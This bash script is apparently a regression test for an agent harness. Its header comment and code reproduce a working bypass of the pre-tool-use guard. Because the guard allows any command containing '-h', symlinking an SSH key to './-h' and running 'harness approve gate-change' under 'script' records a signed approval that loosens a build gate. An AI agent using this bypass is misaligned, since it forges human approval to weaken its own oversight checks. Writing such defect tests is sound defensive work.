#!/bin/bash
# The guard lets any harness command through when the word `-h` or `--help` appears anywhere in it
# ("reading how a command works changes nothing"), but click reads `-h` after `--key` as the key's
# path. `ln -s ~/.ssh/<key> ./-h` then `script -qec "harness approve gate-change --key -h" /dev/null`
# (script gives the pty approve wants; "approve" is typed from a pipe) is allowed and records a real
# signed approval of a gate loosening, which the commit hook then accepts. Present at 615f161 too.
# exit 1: the defect exists; 0: fixed; 2: setup failure.
here=$(cd "$(dirname "$0")/../.." && pwd)
export PATH="$here/.venv/bin:$PATH"
command -v script >/dev/null && command -v ssh-keygen >/dev/null || exit 2
S=$(mktemp -d) || exit 2
trap 'rm -rf "$S"' EXIT
export HOME="$S/home"; mkdir -p "$HOME" "$S/r" || exit 2
cd "$S/r" && git init -q && git config user.name h && git config user.email h@x && git commit -q --allow-empty -m init || exit 2
harness init >/dev/null 2>&1 && harness install >/dev/null 2>&1 && harness task new t >/dev/null 2>&1 || exit 2
ssh-keygen -q -t ed25519 -N '' -f "$HOME/id" >/dev/null || exit 2
echo "h@x $(cut -d' ' -f1,2 "$HOME/id.pub")" > .harness/allowed_signers && git add -A && git commit -qm signers || exit 2
sed -i 's/    build: required/    build: optional/' .harness/gate.yaml && git add -A || exit 2
if git commit -qm loosen >/dev/null 2>&1; then echo "setup: the loosening was accepted unapproved"; exit 2; fi
judge() { printf '{"session_id":"s","cwd":"%s","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"%s"}}' \
          "$S/r" "$(printf '%s' "$1" | sed 's/"/\\"/g')" | harness hook agent claude pre-tool-use; }
case "$(judge 'harness approve gate-change')" in *'"deny"'*) ;; *) echo "setup: plain approve allowed"; exit 2;; esac
c1="ln -s $HOME/id ./-h"
c2="(sleep 2; printf 'approve\n') | script -qec 'harness approve gate-change --key -h' /dev/null"
for c in "$c1" "$c2"; do case "$(judge "$c")" in *'"deny"'*) echo "denied: $c"; exit 0;; esac; done
bash -c "$c1" && bash -c "$c2" >/dev/null 2>&1
rm -f ./-h
grep -q '"kind": "gate-change"' .harness/approvals.jsonl 2>/dev/null || { echo "setup: no approval recorded"; exit 2; }
git add -A .harness && git commit -qm "loosen, approved" >/dev/null 2>&1 || { echo "setup: commit still refused"; exit 2; }
echo "allowed: $c2 -> signed gate-change approval recorded and the loosening committed"
exit 1
